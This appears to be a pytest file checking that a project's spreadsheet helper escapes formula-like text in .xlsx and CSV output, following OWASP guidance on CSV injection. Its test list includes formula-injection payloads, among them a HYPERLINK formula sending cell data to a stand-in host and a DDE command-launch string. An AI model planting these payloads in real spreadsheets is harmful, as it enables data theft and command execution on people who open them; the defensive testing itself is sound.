"""The one helper every .xlsx and CSV writer of Leitai uses (api/spreadsheets.py), with
the texts a person could give it as they are - TAB and CR at the start included, which
Leitai's own names never hold (tests/e2e/test_formula_injection.py covers the files)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from api import spreadsheets

FORMULAS = ["=1+1", "+1", "-1+1", "@SUM(1)", "\t=1", "\r=1", '=HYPERLINK("http://evil.example/?"&A1,"click")',
            "@SUM(1+1)*cmd|' /C calc'!A0", "＝1+1", "－1"]
HARMLESS = ["一村", "93.75", "-1", "-0.50", "-", "a=1", " =1"]


def test_every_writer_uses_the_helper() -> None:
    """No module of Leitai makes a workbook or a CSV writer of its own."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    makers = []
    for path in sorted((root / "api").rglob("*.py")) + sorted((root / "projections").rglob("*.py")):
        text = path.read_text(encoding="utf-8")
        for word in ("csv.writer(", "csv.DictWriter(", "sheet.append(", ".value = "):
            if word in text and path.name != "spreadsheets.py":
                makers.append(f"{path.relative_to(root)}: {word}")
    assert not makers, makers


@pytest.mark.parametrize("text", FORMULAS)
def test_a_formula_like_text_is_a_quoted_text_cell_kept_as_written(text: str) -> None:
    book = Workbook()
    spreadsheets.append(book.active, [text, 1, Decimal("93.75"), -1])
    out = io.BytesIO()
    book.save(out)
    row = next(load_workbook(io.BytesIO(out.getvalue())).active.iter_rows())
    kept = text.replace("\r", "\n")  # XML reads a CR back as a line feed
    assert row[0].value == kept and row[0].data_type == "s" and row[0].quotePrefix
    assert [(c.value, c.data_type) for c in row[1:]] == [(1, "n"), (93.75, "n"), (-1, "n")]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_text_cells_without_the_prefix(text: str) -> None:
    book = Workbook()
    spreadsheets.append(book.active, [text])
    cell = book.active["A1"]
    assert cell.value == text and cell.data_type == "s" and not cell.quotePrefix


def test_a_control_character_an_xlsx_cannot_hold_does_not_stop_the_file() -> None:
    book = Workbook()
    spreadsheets.append(book.active, ["a\x01b"])
    assert book.active["A1"].value == "a\ufffdb"


def test_csv_fields_follow_owasp_and_numbers_stay_bare() -> None:
    out = io.StringIO()
    writer = spreadsheets.csv_writer(out)
    writer.writerow([*FORMULAS, *HARMLESS, 1, Decimal("93.75"), None])
    line = out.getvalue()
    fields = next(csv.reader(io.StringIO(line)))
    assert fields[:len(FORMULAS)] == ["'" + text for text in FORMULAS]
    assert fields[len(FORMULAS):len(FORMULAS) + len(HARMLESS)] == HARMLESS
    assert fields[-3:] == ["1", "93.75", ""]
    assert '"\'=HYPERLINK(""http://evil.example/?""&A1,""click"")"' in line  # in double quotes, quotes doubled
    assert line.rstrip("\r\n").endswith(',1,93.75,""')  # numbers are not quoted
